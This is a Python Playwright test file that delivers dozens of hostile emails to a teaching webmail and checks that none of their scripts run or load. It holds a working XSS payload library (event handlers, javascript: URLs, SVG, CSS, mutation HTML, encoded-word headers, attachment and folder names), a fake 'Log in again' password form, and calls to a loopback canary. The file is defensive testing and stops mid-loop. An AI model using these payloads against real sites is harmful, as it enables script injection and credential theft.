"""Hostile mail in a real browser: no script in a message ever runs in the webmail, nothing loads.

An HTML mail is a web page written by a stranger (see `mailcourse.webmail.sanitize`).
These tests deliver to jane messages that carry script-injection payloads, in
every place a mail can carry them: HTML bodies (script tags, event handlers,
``javascript:`` URLs, SVG, CSS, ``<meta refresh>``, frames, objects, ``<base>``,
malformed and "mutation" HTML), text/plain bodies, RFC 2047 encoded-word
headers, attachment file names, and the names of folders; plus payloads
reflected from the URL, a search and the login form.

Every payload, if it ran, would do four observable things at once
(`script`): call ``alert()`` and ``confirm()``, ``console.error("XSS-<n>")``,
set ``document.title = "XSS-<n>"``, and request ``http://127.0.0.1:<canary>/xss-<n>``
(``fetch`` and an image). Payloads that need no script at all (a ``<link>``,
a CSS ``@import``, a web bug) point at the canary too. The marker "XSS-<n>"
is put together at run time (``'XS'+'S-7'``), so it appears in no source
text: a console message or title that contains "XSS" can only come from a
script that ran, never from a page or an error message that quotes the mail.

The canary is a tiny HTTP server of the test; it records every request it gets.

Three tests, and why the harness cannot pass by being broken:

1. `test_the_payloads_work_where_nothing_defends` serves every HTML payload
   raw (no sanitizer, no CSP, no sandbox) from a page of the test's own and
   checks that each one marked ``load`` does reach its canary by itself (and
   each ``click`` one after a click): the payloads are live ammunition.
2. `test_no_payload_runs_or_loads_in_the_webmail` opens, as jane, the lists,
   an added view and search results, and of every hostile message the
   message view (clicking what can be clicked in its sandboxed frame), the
   raw source and the reply form; the HTML route directly for each HTML
   body; the header view and the forward form for each message whose header,
   plain body or attachment is the hostile part; and the downloads. It
   proves that nothing happened: no dialog,
   no console message with "XSS", no page error, no popup, titles as the
   server sent them, no script element or event-handler attribute in any
   document, and the canary got zero requests. The HTML route carries its CSP
   and ``nosniff``. The payloads are on the pages all the same, as text: the
   decoded subjects, sender names, file and folder names are shown. Last, in
   the same browser context with the same listeners and the same canary, a
   control page that *does* run the script: every listener and the canary
   must record it.
3. `test_reflected_payloads_in_urls_search_and_login` does the same for text
   the attacker puts in a link (a folder name, a search, a view name) or a
   login form.

Screenshots go to test-output/browser/webmail-xss-*.png.
"""
from __future__ import annotations

import base64
import contextlib
import html
import http.server
import re
import threading
import time
import urllib.parse
from dataclasses import dataclass, field
from pathlib import Path

import pytest

from mailcourse import Lab

try:
    from playwright.sync_api import Error as PlaywrightError
except ImportError:  # collected without playwright ("make test-fast"): the browser fixture says so
    PlaywrightError = Exception

pytestmark = pytest.mark.browser

ROOT = Path(__file__).resolve().parents[2]
OUTPUT = ROOT / "test-output" / "browser"
JANE, JANE_PASSWORD = "jane@somewhereelse.com", "jane-password"
TIMEOUT = 10_000  # ms


# -- the canary: a tiny web server that records every request ------------------------------------

class LoopbackSite:
    """An HTTP server on 127.0.0.1 that records every request, and serves ``pages`` (path -> HTML).

    As a canary it serves no pages: any request at all is evidence that a
    payload ran or loaded something. As a control host it serves the payloads
    raw, with no defence, to show that they work.
    """

    def __init__(self, pages: dict[str, str] | None = None) -> None:
        self.pages = pages if pages is not None else {}
        self.hits: list[str] = []  # "GET /xss-7", in the order they came
        self._lock = threading.Lock()
        site = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def _answer(self) -> None:
                self.rfile.read(int(self.headers.get("Content-Length") or 0))  # a form's body, read to the end
                with site._lock:
                    site.hits.append(f"{self.command} {self.path}")
                page = site.pages.get(self.path.partition("?")[0])
                body = (page if page is not None else "canary\n").encode()
                self.send_response(200)
                self.send_header("Content-Type", "text/html; charset=utf-8" if page is not None else "text/plain")
                self.send_header("Access-Control-Allow-Origin", "*")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                if self.command != "HEAD":
                    self.wfile.write(body)

            do_GET = do_POST = do_HEAD = do_OPTIONS = _answer

            def log_message(self, *args: object) -> None:  # quiet
                pass

        class Server(http.server.ThreadingHTTPServer):
            def handle_error(self, request, client_address) -> None:  # a browser that went away: no matter
                pass

        self.httpd = Server(("127.0.0.1", 0), Handler)
        self.port = self.httpd.server_address[1]
        self.url = f"http://127.0.0.1:{self.port}"
        threading.Thread(target=self.httpd.serve_forever, daemon=True).start()

    def recorded(self) -> list[str]:
        with self._lock:
            return list(self.hits)

    def fired(self, number: object) -> bool:
        """Has payload ``number`` reached the canary (``/xss-<n>``, ``/xss-<n>-img``, ``/xss-<n>.js``...)?"""
        pattern = re.compile(rf" /xss-{number}(?:[-./?]|$)")
        return any(pattern.search(hit) for hit in self.recorded())

    def wait_for(self, number: object, timeout: float = 5.0) -> bool:
        """`fired`, waiting up to ``timeout`` seconds for it."""
        deadline = time.monotonic() + timeout
        while not self.fired(number):
            if time.monotonic() > deadline:
                return False
            time.sleep(0.02)
        return True

    def close(self) -> None:
        self.httpd.shutdown()
        self.httpd.server_close()


# -- the payloads ---------------------------------------------------------------------------------

def marker(n: object) -> str:
    """JavaScript for the string "XSS-<n>", written so that the text "XSS" is not in the source."""
    return f"'XS'+'S-{n}'"


def script(n: object, canary: str) -> str:
    """What a payload does when it runs: console, title, two requests to the canary, two dialogs.

    No spaces, no double quotes, no angle brackets: it fits in a quoted or
    unquoted attribute, a ``javascript:`` URL and a ``<script>`` element alike.
    """
    m = marker(n)
    return (f"console.error({m});document.title={m};fetch('{canary}/xss-{n}');"
            f"Object.assign(document.createElement('img'),{{src:'{canary}/xss-{n}-img'}});"
            f"alert({m});confirm({m})")


@dataclass(frozen=True)
class HtmlPayload:
    """One hostile HTML body. ``html`` is a template: {js} the script, {canary} its URL, {n} the number.

    ``fires`` says what it does in a page that has no defence at all:
    "load" (runs or loads by itself), "click" (after a click on ``selector``),
    or "never" (only in other or older browsers: IE's CSS expressions, naive
    sanitizers' bugs), tried all the same. ``navigates``: it takes the whole
    page to the canary.
    """

    name: str
    html: str
    fires: str = "load"
    selector: str = ""
    navigates: bool = False


def svg_image(n: int, canary: str) -> str:
    svg = (f'<svg xmlns="http://www.w3.org/2000/svg" onload="{script(n, canary)}">'
           f'<script>{script(n, canary)}</script><image href="{canary}/xss-{n}-svgimage"/></svg>')
    return "data:image/svg+xml;base64," + base64.b64encode(svg.encode()).decode()


HTML_PAYLOADS = [
    HtmlPayload("script element", "<p>Hello Jane</p><script>{js}</script>"),
    HtmlPayload("script src", '<script src="{canary}/xss-{n}.js"></script><p>Hello</p>'),
    HtmlPayload("img onerror", '<img src="x" onerror="{js}">'),
    HtmlPayload("IMG ONERROR, upper case", '<IMG SRC="x" ONERROR="{js}">'),
    HtmlPayload("svg onload", '<svg onload="{js}"><circle r="4"/></svg>'),
    HtmlPayload("body onload", '<html><head></head><body onload="{js}"><p>Newsletter</p></body></html>'),
    HtmlPayload("details ontoggle", '<details open ontoggle="{js}"><summary>More</summary>text</details>'),
    HtmlPayload("video source onerror", '<video><source onerror="{js}"></video>'),
    HtmlPayload("svg animate onbegin", '<svg><animate onbegin="{js}" attributeName="x" dur="1s"/></svg>'),
    HtmlPayload("input autofocus onfocus", '<input autofocus onfocus="{js}">'),
    HtmlPayload("svg script", "<svg><script>{js}</script></svg>"),
    HtmlPayload("javascript: link", '<a id="go" href="javascript:{js}">Read more</a>', "click", "a"),
    HtmlPayload("entity-encoded javascript: link", '<a href="&#106;ava&#x09;script:{js}">Open</a>',
                "click", "a"),
    HtmlPayload("svg javascript: link",
                '<svg width="200" height="40"><a href="javascript:{js}"><text x="5" y="20">Open</text></a></svg>',
                "click", "text"),
    HtmlPayload("form action javascript:", '<form action="javascript:{js}"><button id="b">Confirm</button></form>',
                "click", "button"),
    HtmlPayload("form to the canary", '<form action="{canary}/xss-{n}-form" method="post">'
                '<input name="password" value="x"><button>Log in again</button></form>', "click", "button", True),
    HtmlPayload("iframe to the canary", '<iframe src="{canary}/xss-{n}-iframe"></iframe>'),
    HtmlPayload("iframe srcdoc script", '<iframe srcdoc="<script>{js}</script>"></iframe>'),
    HtmlPayload("iframe javascript:", '<iframe src="javascript:{js}"></iframe>'),
    HtmlPayload("iframe data: URL", '<iframe src="data:text/html,<script>{js}</script>"></iframe>'),
    HtmlPayload("object", '<object data="{canary}/xss-{n}-object" type="text/html"></object>'),
    HtmlPayload("embed", '<embed src="{canary}/xss-{n}-embed" type="text/html">'),
    HtmlPayload("meta refresh to the canary", '<meta http-equiv="refresh" content="0;url={canary}/xss-{n}-refresh">',
                navigates=True),
    HtmlPayload("meta refresh javascript:", '<meta http-equiv="refresh" content="0;url=javascript:{js}">', "never"),
    HtmlPayload("base href", '<base href="{canary}/xss-{n}-base/"><img src="pixel.gif"><a href="page">relative</a>'),
    HtmlPayload("link stylesheet", '<link rel="stylesheet" href="{canary}/xss-{n}-link"><p>styled</p>'),
    HtmlPayload("style @import", '<style>@import url("{canary}/xss-{n}-import");</style><p>styled</p>'),
    HtmlPayload("style attribute url()", '<p style="background-image:url({canary}/xss-{n}-css)">bg</p>'),
    HtmlPayload("CSS url(javascript:)", "<p style=\"background:url('javascript:{js}')\">old trick</p>", "never"),
    HtmlPayload("CSS expression()", '<p style="width:expression({js})">IE only</p>', "never"),
    HtmlPayload("web bug", '<img src="{canary}/xss-{n}-bug" width="1" height="1">'),
    HtmlPayload("img srcset", '<img srcset="{canary}/xss-{n}-srcset 1x" alt="photo">'),
    HtmlPayload("video poster", '<video poster="{canary}/xss-{n}-poster"></video>'),
    HtmlPayload("input type=image", '<input type="image" src="{canary}/xss-{n}-input">'),
    HtmlPayload("table background", '<table background="{canary}/xss-{n}-table"><tr><td>cell</td></tr></table>'),
    HtmlPayload("svg image href", '<svg><image href="{canary}/xss-{n}-svgimage" width="10" height="10"/></svg>'),
    HtmlPayload("SVG with script as a data: image", '<img src="{svg_image}" alt="chart">', "never"),
    HtmlPayload("scr<script>ipt split tag", "<scr<script>ipt>{js}</scr</script>ipt>", "never"),
    HtmlPayload("unclosed tag", '<p>Hi</p><img src="x" onerror="{js}" \n<b>bold</b>'),
    HtmlPayload("comment closed by --!>", '<!-- x --!><img src="x" onerror="{js}"> -->'),
    HtmlPayload("attribute that closes a comment", '<!--<img src="--><img src=x onerror={js}//">'),
    HtmlPayload("CDATA in HTML", "<![CDATA[><img src=x onerror={js}//]]>"),
    HtmlPayload("noscript mutation", '<noscript><p title="</noscript><img src=x onerror={js}>"></noscript>'),
    HtmlPayload("math/style mutation", "<math><mtext><table><mglyph><style><img src=x onerror={js}>", "never"),
    HtmlPayload("entity-encoded script as text", "<p>&lt;/textarea&gt;&lt;script&gt;{js}&lt;/script&gt;</p>",
                "never"),
]


def html_payload(number: int, payload: HtmlPayload, canary: str) -> str:
    js = script(number, canary)
    return payload.html.format(js=js, canary=canary, n=number, svg_image=svg_image(number, canary))


def encoded_word(text: str, encoding: str = "B") -> str:
    """``text`` as RFC 2047 encoded words (split to stay under 75 characters each), UTF-8."""
    words, chunk = [], ""
    for ch in text:
        if len((chunk + ch).encode()) > 36:
            words.append(chunk)
            chunk = ""
        chunk += ch
    words.append(chunk)
    if encoding == "B":
        return " ".join(f"=?UTF-8?B?{base64.b64encode(w.encode()).decode()}?=" for w in words)
    quoted = ("".join(c if c.isalnum() else f"={ord(c):02X}" for c in w) for w in words)
    return " ".join(f"=?UTF-8?Q?{q}?=" for q in quoted)


def raw_message(number: int, subject: str, body: bytes, content_type: str = "text/plain; charset=utf-8", *,
                sender: str = "Joe <joe@someplace.org>", to: str = JANE, extra: str = "") -> bytes:
    """A message as it comes off the wire: header lines exactly as given (CRLF), then the body."""
    head = (f"From: {sender}\r\nTo: {to}\r\nSubject: {subject}\r\nDate: Mon, 06 Jan 2025 10:00:00 +0000\r\n"
            f"Message-ID: <payload-{number}@someplace.org>\r\nX-Payload: {number}\r\nMIME-Version: 1.0\r\n"
            f"{extra}Content-Type: {content_type}\r\n\r\n")
    return head.encode() + body.replace(b"\r\n", b"\n").replace(b"\n", b"\r\n")


@dataclass
class Hostile:
    """Every hostile message and folder put into jane's mailbox, and where to find them."""

    html: dict[int, HtmlPayload] = field(default_factory=dict)  # X-Payload number -> payload
    messages: dict[int, tuple[str, int]] = field(default_factory=dict)  # X-Payload number -> (folder, uid)
    folders: list[str] = field(default_factory=list)
    with_attachments: list[int] = field(default_factory=list)


def hostile_messages(canary: str) -> tuple[list[bytes], dict[int, HtmlPayload], list[int]]:
    """Every hostile message, numbered by its X-Payload header."""
    messages: list[bytes] = []
    html_numbers: dict[int, HtmlPayload] = {}
    number = 0
    for payload in HTML_PAYLOADS:
        number += 1
        body = html_payload(number, payload, canary)
        subject = f"payload {number}: {payload.name}"
        if number % 2:  # half as HTML only (a reply quotes the HTML as text), half with a plain version
            messages.append(raw_message(number, subject, body.encode(), "text/html; charset=utf-8"))
        else:
            boundary = f"alt-{number}"
            multi = (f"--{boundary}\nContent-Type: text/plain; charset=utf-8\n\n{body}\n"
                     f"--{boundary}\nContent-Type: text/html; charset=utf-8\n\n{body}\n--{boundary}--\n")
            messages.append(raw_message(number, subject, multi.encode(), f'multipart/alternative; boundary="{boundary}"'))
        html_numbers[number] = payload

    def js(n: int) -> str:
        return script(n, canary)

    # text/plain bodies: shown in <pre>, quoted in the reply's <textarea>
    number += 1
    messages.append(raw_message(number, f"payload {number}: HTML in a plain text body", (
        f"<script>{js(number)}</script>\n<img src=x onerror=\"{js(number)}\">\n</pre><svg onload=\"{js(number)}\">\n"
        f"</textarea><script>{js(number)}</script>\n\"><iframe src=\"javascript:{js(number)}\"></iframe>\n").encode()))
    number += 1
    messages.append(raw_message(number, f"payload {number}: quoted-printable plain text", (
        f"=3Cscript=3E{js(number)}=3C/script=3E\n=3Cimg src=3Dx onerror=3D{js(number)}=3E\n").encode(),
        extra="Content-Transfer-Encoding: quoted-printable\r\n"))
    # RFC 2047 encoded words in headers that decode to markup
    number += 1
    messages.append(raw_message(number, encoded_word(f"<script>{js(number)}</script>"), b"Subject in base64.\n"))
    number += 1
    messages.append(raw_message(number, encoded_word(f'"><img src=x onerror="{js(number)}">', "Q"),
                                b"Subject in quoted-printable words.\n"))
    number += 1
    messages.append(raw_message(number, f"payload {number}: the sender's name", b"From: a name with markup.\n",
                                sender=encoded_word(f"<img src=x onerror={js(number)}>") + " <evil@example.com>"))
    number += 1
    messages.append(raw_message(number, f"<svg onload=\"{js(number)}\"> payload {number}: raw subject",
                                b"Subject not encoded at all.\n",
                                to=encoded_word(f"<svg onload={js(number)}>") + f" <{JANE}>",
                                extra=f"Cc: \"</dd><script>{js(number)}</script>\" <cc@example.com>\r\n"))
    # attachment file names and types
    number += 1
    with_attachments = [number]
    boundary = "mixed-files"
    star = urllib.parse.quote(f'<img src=x onerror="{js(number)}">.html', safe="")
    ew = base64.b64encode(f"<script>{js(number)}</script>.txt".encode()).decode()
    page = f"<html><body><script>{js(number)}</script>attachment</body></html>"
    parts = [
        "Content-Type: text/plain; charset=utf-8\n\nFiles for you.\n",
        f"Content-Type: text/html; charset=utf-8\nContent-Disposition: attachment; filename*=UTF-8''{star}\n\n{page}\n",
        f'Content-Type: text/plain\nContent-Disposition: attachment; filename="=?UTF-8?B?{ew}?="\n\nnotes\n',
        (f'Content-Type: image/svg+xml; name="<svg onload={js(number)}>.svg"\n\n'
         f'<svg xmlns="http://www.w3.org/2000/svg" onload="{js(number)}"/>\n'),
    ]
    body = "".join(f"--{boundary}\n{p}" for p in parts) + f"--{boundary}--\n"
    messages.append(raw_message(number, f"payload {number}: attachment names", body.encode(),
                                f'multipart/mixed; boundary="{boundary}"'))
    return messages, html_numbers, with_attachments


# Folder names: printable ASCII, no "/", "\", "*", "%" or "..", at most 127 characters (see the store).
FOLDER_PAYLOADS = [
    "<img src=x onerror=\"console.error('XS'+'S-F1');document.title='XS'+'S-F1';alert(1)\">",
    "'\"><svg onload=\"fetch('http:'+String.fromCharCode(47,47)+'2130706433:{port}'+String.fromCharCode(47)+'xss-F2')\">",
    "\" onmouseover=\"alert(3)\" x=\"",
]


# -- watching the browser -----------------------------------------------------------------------------

@dataclass
class Watch:
    """Everything a browser context reports that only running script could cause."""

    dialogs: list[str] = field(default_factory=list)
    console: list[str] = field(default_factory=list)  # every console message: "type: text"
    page_errors: list[str] = field(default_factory=list)
    pages: list = field(default_factory=list)  # every page of the context: the test's own, and any popup

    def attach(self, context, page) -> None:
        def dialog(d) -> None:
            self.dialogs.append(f"{d.type}: {d.message}")
            with contextlib.suppress(Exception):  # its page may have been closed or gone on meanwhile
                d.dismiss()

        context.on("dialog", dialog)
        context.on("console", lambda m: self.console.append(f"{m.type}: {m.text}"))
        page.on("pageerror", lambda e: self.page_errors.append(str(e)))
        context.on("weberror", lambda e: self.page_errors.append(str(e.error)) if e.page is not page else None)
        context.on("page", lambda p: self.pages.append(p))

    def script_ran(self) -> list[str]:
        """The evidence: dialogs, and console messages or page errors that name the marker."""
        return self.dialogs + [c for c in self.console if "XSS" in c] + [e for e in self.page_errors if "XSS" in e]

    def popups(self, *own) -> list[str]:
        """Pages that the test did not open itself (window.open, target=_blank)."""
        return [p.url for p in self.pages if p not in own]


DOM_CHECK = """([canaryPort, mail]) => {
    // What could run or load something in this document. A page of the webmail may hold its own forms,
    // its one style sheet and the mail's sandboxed frame; the cleaned mail (mail = true) not even a form.
    const bad = [];
    const dangerous = new Set(['script', 'iframe', 'frame', 'object', 'embed', 'base', 'link', 'style', 'svg', 'math',
                               'video', 'audio', 'source', 'noscript', 'template', 'meta', 'applet']);
    if (mail) ['form', 'input', 'button', 'textarea', 'select'].forEach(tag => dangerous.add(tag));
    const urls = new Set(['href', 'src', 'action', 'formaction', 'data', 'poster', 'background', 'srcset',
                          'xlink:href', 'ping', 'cite', 'codebase', 'lowsrc', 'dynsrc']);
    for (const el of document.querySelectorAll('*')) {
        const tag = el.tagName.toLowerCase();
        const own = !mail && (
            (tag === 'iframe' && el.id === 'html-body' && el.getAttribute('sandbox') === '')
            || (tag === 'link' && el.rel === 'stylesheet' && /^(\\.\\/)?(\\.\\.\\/)*static\\/webmail\\.css$/.test(el.getAttribute('href')))
            || (tag === 'link' && el.rel === 'icon' && el.getAttribute('href') === 'data:,'))
            || (tag === 'meta' && (el.hasAttribute('charset') || ['viewport', 'color-scheme'].includes(el.getAttribute('name'))));
        if (dangerous.has(tag) && !own) bad.push(tag);
        for (const a of el.attributes) {
            const value = a.value.toLowerCase().replace(/[\\s\\x00-\\x1f]/g, '');
            const loads = value.includes('javascript:') || value.includes(':' + canaryPort)
                || (value.startsWith('data:') && !(tag === 'img' && value.startsWith('data:image/'))
                    && !(tag === 'link' && value === 'data:,'));
            if (a.name.startsWith('on') || a.name === 'srcdoc' || (urls.has(a.name) && loads)
                || (a.name === 'style' && (mail || /url\\(|expression|@import/.test(value))))
                bad.push(tag + '[' + a.name + '=' + a.value.slice(0, 60) + ']');
        }
    }
    return bad;
}"""


def server_title(body: str) -> str:
    """The title the server sent, as the browser shows it (entities decoded, white space collapsed)."""
    found = re.search(r"<title>(.*?)</title>", body, re.DOTALL)
    return " ".join(html.unescape(found.group(1)).split()) if found else ""


# -- fixtures ---------------------------------------------------------------------------------------

@pytest.fixture(scope="module")
def canary():
    site = LoopbackSite()
    yield site
    site.close()


@pytest.fixture(scope="module")
def lab():
    with Lab.classic(seed=8) as lab:
        yield lab


@pytest.fixture(scope="module")
def server(lab):
    return lab.server("somewhereelse.com")


@pytest.fixture(scope="module")
def hostile(lab, server, canary) -> Hostile:
    """Every hostile message delivered to jane over SMTP, to her MX, as any Internet host could send them."""
    messages, html_numbers, with_attachments = hostile_messages(canary.url)
    with lab.smtp("mallory-host", server.mx) as smtp:
        for raw in messages:
            assert smtp.sendmail("mallory@example.com", [JANE], raw) == {}
    found = Hostile(html=html_numbers, with_attachments=with_attachments)
    for info in server.store.list("jane"):
        raw = server.store.get("jane", info.uid)
        number = int(re.search(rb"\r\nX-Payload: (\d+)\r\n", raw).group(1))
        found.messages[number] = ("INBOX", info.uid)
    assert len(found.messages) == len(messages)
    server.store.create_special_use_folders("jane")
    for k, name in enumerate(FOLDER_PAYLOADS, start=1):
        name = name.format(port=canary.port)
        server.store.create_folder("jane", name)
        assert name in server.store.folders("jane")  # the store took the name as it is
        uid = server.store.deliver("jane", raw_message(900 + k, f"a message in hostile folder {k}", b"Hello.\n"), name)
        found.messages[900 + k] = (name, uid)
        found.folders.append(name)
    return found


def new_watched_page(browser):
    context = browser.new_context(viewport={"width": 1280, "height": 900}, accept_downloads=True)
    page = context.new_page()
    watch = Watch()
    watch.attach(context, page)
    return context, page, watch


def log_in(page, url: str) -> None:
    from playwright.sync_api import expect

    page.goto(url + "login")
    page.fill("#username", JANE)
    page.fill("#password", JANE_PASSWORD)
    page.click("form#login button[type=submit]")
    expect(page).to_have_url(re.compile(r"/mailbox/INBOX$"), timeout=TIMEOUT)


def shoot(page, name: str) -> None:
    OUTPUT.mkdir(parents=True, exist_ok=True)
    page.screenshot(path=str(OUTPUT / f"webmail-xss-{name}.png"), full_page=True)


@dataclass
class Visit:
    path: str
    status: int = 200
    click: bool = False  # click what a reader could click in the mail's frame


class Visitor:
    """Opens webmail pages one after the other in one watched tab, and checks each when it has loaded.

    The checks, on every document (the page and the mail's frame): the title
    is the one the server sent, and `DOM_CHECK` finds nothing that could run
    or load.
    """

    def __init__(self, page, base: str, canary: LoopbackSite) -> None:
        self.page = page
        self.base = base
        self.canary = canary
        self.visited: list[str] = []
        self.problems: list[str] = []
        self.html_responses: list[tuple[str, dict[str, str]]] = []
        self.clicked = 0

    def visit(self, visits: list[Visit]) -> None:
        for visit in visits:
            try:
                self._visit(visit)
            except PlaywrightError as e:  # a payload that ran can take the page away: that is evidence too
                self.problems.append(f"{visit.path}: {first_line(e)}")

    def _visit(self, visit: Visit) -> None:
        path = visit.path
        response = self.page.goto(self.base + path, wait_until="load", timeout=TIMEOUT)  # frames included
        self.visited.append(path)
        if response is None or response.status != visit.status:
            self.problems.append(f"{path}: status {response and response.status}, expected {visit.status}")
            return
        headers = response.headers
        expected = server_title(response.text()) if headers.get("content-type", "").startswith("text/html") else None
        if path.endswith("/html"):
            self.html_responses.append((path, headers))
        if visit.click:  # what a reader could click in the mail (that does something): nothing it leads to may run
            clickable = "a[href], area[href], button, input, summary, label, [onclick]"
            for element in self.page.frame_locator("iframe#html-body").locator(clickable).all():
                if element.is_visible():
                    element.click(timeout=2_000, no_wait_after=True)
                    self.clicked += 1
        main = self.page.main_frame
        for frame in self.page.frames:
            if frame is not main and not (frame.parent_frame is main and frame.url == f"{self.base}{path}/html"):
                # Only the webmail's own frame for the mail may exist. (And playwright can hang in others.)
                self.problems.append(f"{path}: a frame the webmail does not make: {frame.url[:80]}")
                continue
            mail = frame is not main or path.endswith("/html")
            found = frame.evaluate(INSPECT, [str(self.canary.port), mail])
            if found["bad"]:
                self.problems.append(f"{path} ({'mail' if mail else 'page'}): {found['bad']}")
            if "XSS" in found["title"]:
                self.problems.append(f"{path}: a frame's title is {found['title']!r}")
            if frame is main and expected is not None and found["title"] != expected:
                self.problems.append(f"{path}: title {found['title']!r}, the server sent {expected!r}")


INSPECT = f"([port, mail]) => ({{title: document.title, bad: ({DOM_CHECK})([port, mail])}})"


def first_line(error: Exception) -> str:
    return (str(error).strip().splitlines() or [""])[0]


def close_context(context) -> None:
    """Close a context even when a payload that ran keeps a page busy (leave every page first)."""
    for tab in context.pages:
        with contextlib.suppress(PlaywrightError):
            tab.goto("about:blank", wait_until="commit", timeout=5_000)
    context.close()


# -- 1. the payloads are live ------------------------------------------------------------------------

SCRIPT_HIT = re.compile(r" /xss-(\d+)(?:-img)?$")  # the requests `script` makes, not a mere load


def test_the_payloads_work_where_nothing_defends(browser) -> None:
    """Each payload, served raw by a page of the test, does reach the canary: they are real attacks."""
    canary = LoopbackSite()
    pages = {f"/payload/{n}": html_payload(n, p, canary.url) for n, p in enumerate(HTML_PAYLOADS, start=1)}
    control = LoopbackSite(pages)
    context, _, watch = new_watched_page(browser)
    tabs = [context.new_page() for _ in range(6)]
    try:
        waiting = list(enumerate(HTML_PAYLOADS, start=1))
        loading: list[tuple[object, int, HtmlPayload, float]] = []

        def start(tab) -> None:
            if waiting:
                n, payload = waiting.pop(0)
                tab.goto(f"{control.url}/payload/{n}", wait_until="commit")
                if payload.fires == "click":
                    tab.locator(payload.selector).first.click(timeout=5_000, no_wait_after=True)
                loading.append((tab, n, payload, time.monotonic() + (5.0 if payload.fires != "never" else 0.3)))

        for tab in tabs:
            start(tab)
        while loading:
            tab, n, payload, deadline = loading.pop(0)
            while not canary.fired(n) and time.monotonic() < deadline:
                tab.wait_for_timeout(20)  # lets playwright hand the dialogs to the listener meanwhile
            if payload.navigates and canary.fired(n):  # leaving a page mid-navigation can hang chromium
                tab.wait_for_url(re.compile(rf"/xss-{n}-"))
            if any((m := SCRIPT_HIT.search(hit)) and m.group(1) == str(n) for hit in canary.recorded()):
                # The script ran: its two dialogs come last. Wait for them before the tab moves on.
                while f"confirm: XSS-{n}" not in watch.dialogs and time.monotonic() < deadline:
                    tab.wait_for_timeout(20)
            if n == 1:
                shoot(tab, "control-raw")
            start(tab)
        fired = {p.name: canary.fired(n) for n, p in enumerate(HTML_PAYLOADS, start=1)}
    finally:
        close_context(context)
        canary.close()
        control.close()
    should = {p.name for p in HTML_PAYLOADS if p.fires != "never"}
    assert sorted(name for name in should if not fired[name]) == []
    # The listeners heard the scripts too: dialogs dismissed, the marker in the console.
    assert "alert: XSS-1" in watch.dialogs and "confirm: XSS-1" in watch.dialogs
    assert "error: XSS-1" in watch.console
    assert sum(d.startswith("alert: XSS-") for d in watch.dialogs) >= 15


# -- 2. none of them runs or loads in the webmail ------------------------------------------------------

def test_no_payload_runs_or_loads_in_the_webmail(browser, server, hostile: Hostile, canary) -> None:
    from playwright.sync_api import expect

    base = server.webmail.url
    context, page, watch = new_watched_page(browser)
    try:
        log_in(page, base)
        visitor = Visitor(page, base, canary)
        server.webmail.add_view("everything", "Everything", lambda mailbox: mailbox.messages("INBOX"))
        in_inbox = sum(folder == "INBOX" for folder, _ in hostile.messages.values())
        visits = [Visit(f"mailbox/INBOX?page={n}") for n in range(1, -(-in_inbox // 25) + 1)]
        visits += [Visit("view/everything"), Visit("search?q=payload"), Visit("search?q=script&in=subject"),
                   Visit("search?q=onerror&in=body"), Visit("search?q=example.com&in=from")]
        visits += [Visit("mailbox/" + urllib.parse.quote(name, safe="")) for name in hostile.folders]
        for number, (folder, uid) in sorted(hostile.messages.items()):
            at = f"message/{urllib.parse.quote(folder, safe='')}/{uid}"
            ref = urllib.parse.quote(f"{folder}/{uid}", safe="")
            visits += [Visit(at, click=number in hostile.html), Visit(at + "/raw"), Visit(f"compose?reply={ref}")]
            if number in hostile.html:
                visits.append(Visit(at + "/html"))  # the cleaned HTML as a page of its own: only its CSP fences it
            else:  # the hostile headers, names and plain bodies: in the header view and a forward too
                visits += [Visit(at + "/headers"), Visit(f"compose?forward={ref}")]
        visitor.visit(visits)
        assert len(visitor.visited) == len(visits) > 200
        assert visitor.clicked >= 1  # what is left to click in a cleaned mail (a <summary>) was clicked

        def evidence() -> dict[str, list[str]]:
            """Everything that would show that a payload ran or loaded: all of it must stay empty."""
            page.wait_for_timeout(300)  # time for anything late (a refresh, a slow request) to show
            return {"documents": visitor.problems, "dialogs, console": watch.script_ran(),
                    "page errors": watch.page_errors, "popups": watch.popups(page),
                    "canary": canary.recorded()}

        nothing: dict[str, list[str]] = {k: [] for k in evidence()}
        assert evidence() == nothing

        # The payloads are there, as text: RFC 2047 decoded, escaped, shown.
        page.goto(base + "mailbox/INBOX")
        subjects = page.locator("table#messages td.subject").all_inner_texts()
        senders = page.locator("table#messages td.sender").all_inner_texts()
        assert any(s.startswith("<script>console.error(") for s in subjects), subjects  # base64 words
        assert any(s.startswith('"><img src=x onerror="console.error(') for s in subjects), subjects  # Q words
        assert any(s.startswith("<svg onload=") for s in subjects), subjects  # not encoded at all
        assert any(s.startswith('"<img src=x onerror=console.error(') for s in senders), senders  # a quoted name
        expect(page.locator("#folders li", has_text=hostile.folders[0])).to_have_count(1)
        expect(page.locator("#folders li", has_text=hostile.folders[1])).to_have_count(1)
        plain = next(n for n in hostile.messages if n not in hostile.html)  # HTML in a plain text body
        page.goto(base + f"message/INBOX/{hostile.messages[plain][1]}")
        expect(page.locator("pre#body")).to_contain_text(f"<script>console.error('XS'+'S-{plain}');")
        page.goto(base + f"message/INBOX/{hostile.messages[1][1]}")
        expect(page.frame_locator("iframe#html-body").locator("body")).to_have_text("Hello Jane")  # what is left
        for path, name in [("mailbox/INBOX", "inbox"), (f"message/INBOX/{hostile.messages[1][1]}", "message-script"),
                           ("mailbox/" + urllib.parse.quote(hostile.folders[0], safe=""), "folder"),
                           ("search?q=payload", "search")]:
            page.goto(base + path)
            shoot(page, name)
        # Attachments: the names are text, a download is a download (never a page of the webmail).
        number = hostile.with_attachments[0]
        page.goto(base + f"message/INBOX/{hostile.messages[number][1]}")
        shoot(page, "attachments")
        links = page.locator("#attachments li.attachment a")
        expect(links).to_have_count(3)
        names = links.all_inner_texts()
        # Shown as cleaned names (no directories, no <>"): what is left of the payload is text.
        assert [name.rpartition(".")[2] for name in names] == ["html", "txt", "svg"], names
        assert "alert(" in names[0] and "alert(" in names[2] and names[1] == "script_.txt", names
        for i in range(3):
            with page.expect_download() as download:
                links.nth(i).click()
            name = download.value.suggested_filename
            assert not re.search(r"[<>\"/\\]", name), name
            part = page.request.get(base + f"message/INBOX/{hostile.messages[number][1]}/part/{i + 2}")
            assert part.headers["content-disposition"].startswith("attachment;")
            assert part.headers["content-type"] == ("text/plain" if i == 1 else "application/octet-stream")
            assert part.headers["content-security-policy"] == "default-src 'none'; sandbox"
            assert part.headers["x-content-type-options"] == "nosniff"

        assert evidence() == nothing  # the pages opened one by one, the downloads: nothing either
        # The HTML route: every response had the mail's CSP and nosniff.
        assert len(visitor.html_responses) == len(hostile.html)
        for path, headers in visitor.html_responses:
